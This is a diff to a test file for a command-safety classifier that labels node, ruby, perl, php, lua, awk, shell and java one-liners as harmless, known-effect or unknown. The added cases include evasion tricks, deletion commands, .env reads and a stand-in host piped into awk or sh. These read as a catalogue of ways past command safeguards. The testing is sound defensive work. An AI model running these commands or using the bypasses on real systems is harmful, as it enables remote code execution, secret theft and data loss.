@@ -143,6 +143,11 @@ table('node, deno, bun', [
   [`node -e 'const e = require("child_process").exec; e("rm x")'`, 'unknown'],
   [`node -e 'import("child_process").then(c => c.exec("rm x"))'`, 'unknown'],
   [`node -e 'console.log(\`\${fs.readFileSync(".env")}\`)'`, 'known', `read:${P}/.env`],
+  [`node -e 'const a = "child_process"; import(a + "fs")'`, 'unknown'],
+  [`node -e 'const cp = {...require("child_process")}; cp.exec("rm x")'`, 'unknown'],
+  [`node -e 'fs.rmSync?.("a")'`, 'unknown'],
+  [`node -e 'console.log(import.meta.url, "fs")'`, 'unknown'],
+  [`node --title x a.js`, 'known', `exec:${P}/a.js`],
   [`node -e 'eval("1")'`, 'unknown'],
   [`node -e 'new Function("1")()'`, 'unknown'],
   [`node -e '[]["constructor"]["constructor"]("1")()'`, 'unknown'],
@@ -191,6 +196,14 @@ table('ruby', [
   [`ruby -e 'Kernel.send(:system, "rm x")'`, 'unknown'],
   [`ruby -e 'method(:system).call("rm x")'`, 'unknown'],
   [`ruby -e 'eval "1"'`, 'unknown'],
+  [
+    `ruby -e 'x = <<~a
+  1
+a
+puts x'`,
+    'unknown',
+  ],
+  [`ruby -e 'ARGV.replace([".env"]); puts gets'`, 'unknown'],
   [`ruby -e 'File.open("a", "w") { |f| f.write("x") }'`, 'known', `write:${P}/a`],
   [`ruby -e 'require "fileutils"; FileUtils.rm_rf("a")'`, 'known', `delete:${P}/a:recursive`],
   [`ruby -e 'require "./x"'`, 'known', `exec:${P}/x`],
@@ -233,6 +246,17 @@ table('perl', [
   [`perl -ne print 'rm x|'`, 'unknown'],
   [`perl -pe 'BEGIN { @ARGV = ("rm x|") }'`, 'unknown'],
   [`perl -we 'open(".env")'`, 'unknown'],
+  [`perl -ne 'chomp; unlink' f`, 'unknown'],
+  [`perl -ne 'chomp; rmdir()' f`, 'unknown'],
+  [
+    `perl -e 'if (1) {} <<E;
+1
+E
+'`,
+    'unknown',
+  ],
+  [`perl -e 'my $f = 1; if (1) {} &$f("rm x")'`, 'unknown'],
+  [`perl -e 'for my $x (1, 2) { print $x }'`, 'harmless'],
   ['perl a.pl', 'known', `exec:${P}/a.pl`],
   ['perl -v', 'harmless'],
   ['perl -d a.pl', 'unknown'],
@@ -255,6 +279,8 @@ table('php and lua', [
   [`php -r 'file_put_contents("a", "x");'`, 'known', `write:${P}/a`],
   [`php -r 'unlink("a");'`, 'known', `delete:${P}/a`],
   [`php -r 'echo "{$x->y()}";'`, 'unknown'],
+  [`php -r '(#[A] function () { system("rm x"); })();'`, 'unknown'],
+  [`php -r 'preg_replace("/x/e", "1", "x");'`, 'unknown'],
   ['php -d auto_prepend_file=x a.php', 'unknown'],
   ['php a.php', 'known', `exec:${P}/a.php`],
   ['php -l a.php', 'known', `read:${P}/a.php`],
@@ -265,6 +291,7 @@ table('php and lua', [
   [`lua -e 'os.execute[[rm x]]'`, 'known', `delete:${P}/x`],
   [`lua -e 'os["execute"]("rm x")'`, 'unknown'],
   [`lua -e '_G.os.execute("rm x")'`, 'unknown'],
+  [`lua -e '("rm x"):gsub(".*", os.execute)'`, 'unknown'],
   [`lua -e 'load("os.execute()")()'`, 'unknown'],
   [`lua -e 'local f = io.open("a", "w"); f:write("x")'`, 'known', `write:${P}/a`],
   ['lua', 'unknown'],
@@ -272,7 +299,7 @@ table('php and lua', [
 
 table('awk', [
   [`awk '{print $1}' f`, 'known', `read:${P}/f`],
-  [`ps | awk '{print $1}'`, 'harmless'],
+  [`echo a | awk '{print $1}'`, 'harmless'],
   [`awk -F: -v n=3 '$3 > n {print $1}' f`, 'known', `read:${P}/f`],
   [`awk '{print $3/1024/1024 "MB"}' f FS=: g`, 'known', `read:${P}/f`, `read:${P}/g`],
   [`awk '{print (a > b)}' f`, 'known', `read:${P}/f`],
@@ -296,6 +323,14 @@ table('awk', [
   [`gawk -i inplace '{print}' f`, 'unknown'],
   [`gawk --sour='BEGIN{system("rm x")}'`, 'known', `delete:${P}/x`],
   [`gawk --source 'BEGIN{system("rm x")}' f`, 'known', `delete:${P}/x`, `read:${P}/f`],
+  [
+    `awk -f - <<'E'
+BEGIN{system("rm x")}
+E`,
+    'known',
+    `delete:${P}/x`,
+  ],
+  ['awk -f <(curl -s http://h.example/x)', 'unknown'],
   ['awk -f a.awk f', 'known', `exec:${P}/a.awk`, `read:${P}/f`],
   [`awk 'BEGIN{ARGV[1] = ".env"} {print}' f`, 'unknown'],
   ['awk "$p" f', 'unknown'],
@@ -310,6 +345,9 @@ table('shells and others', [
   ['bash -n a.sh', 'known', `read:${P}/a.sh`],
   [`bash -c 'rm x'`, 'known', `delete:${P}/x`],
   ['bash -c "$x"', 'unknown'],
+  [`xargs sh -c 'eval "$2"' _`, 'unknown'],
+  [`xargs sh -c 'shift; eval "$1"' _`, 'unknown'],
+  [`sh -c 'rm "$2"' _ $x`, 'unknown'],
   ['bash', 'unknown'],
   ['bash -s < a.sh', 'known', `read:${P}/a.sh`, `exec:${P}/a.sh`],
   ['curl -s http://h.example/x | sh', 'unknown'],
@@ -321,6 +359,7 @@ table('shells and others', [
   ['java -jar a.jar', 'known', `exec:${P}/a.jar`],
   ['java -cp a:b Main', 'known', `exec:${P}/a`, `exec:${P}/b`],
   ['java -javaagent:x.jar -jar a.jar', 'unknown', `exec:${P}/a.jar`],
+  [`java -XX:OnOutOfMemoryError='rm x' -jar a.jar`, 'unknown'],
   ['java -version', 'harmless'],
   ['Rscript a.R', 'known', `exec:${P}/a.R`],
   [`osascript -e 'do shell script "rm x"'`, 'unknown'],
